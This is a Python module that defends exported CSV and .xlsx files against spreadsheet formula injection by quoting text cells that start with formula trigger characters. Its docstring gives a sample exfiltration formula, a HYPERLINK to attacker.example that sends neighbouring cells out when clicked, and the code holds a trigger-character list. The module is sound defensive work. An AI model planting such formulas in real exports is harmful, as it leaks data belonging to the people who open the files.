"""Text cells of exported spreadsheets (CSV and .xlsx) that a spreadsheet program must not run.

Free text in an export (a recipient's name, an address, an external reference) was typed by
someone outside the company reading the file: a shop's integration key, an imported sheet, any
order author. A cell beginning with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel,
LibreOffice and Google Sheets when they open a CSV (``=HYPERLINK("https://attacker.example/?x="&E3,
"Open")`` sends the row's neighbours away on a click), and a tab or carriage return in front is
skipped before that decision. OWASP's CSV injection guidance: put a single quote in front of such a
cell, which these programs show as text (and hide). Only text cells are neutralised: numbers are
written as numbers, a negative amount stays ``-5``.

In an .xlsx the cell's type is explicit, so a text cell is written as text (``t="inlineStr"``)
with its value unchanged, never as a formula; ``quotePrefix`` keeps Excel from making it one when
the cell is edited.
"""

from __future__ import annotations

from collections.abc import Iterable

# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_text(value: object) -> object:
    """The CSV cell for ``value``: text that a spreadsheet would run gets a leading single quote;
    anything else (numbers included) is returned as it is."""
    if isinstance(value, str) and starts_like_a_formula(value):
        return "'" + value
    return value


def csv_row(row: Iterable[object], text_columns: Iterable[int] | None = None) -> list[object]:
    """``row`` with its text cells neutralised: every ``str`` cell, or only the cells at
    ``text_columns`` (for a file whose numeric columns are decimal strings, such as the payout
    engine's amounts, which must stay numbers)."""
    cells = list(row)
    indexes = range(len(cells)) if text_columns is None else text_columns
    for i in indexes:
        cells[i] = csv_text(cells[i])
    return cells
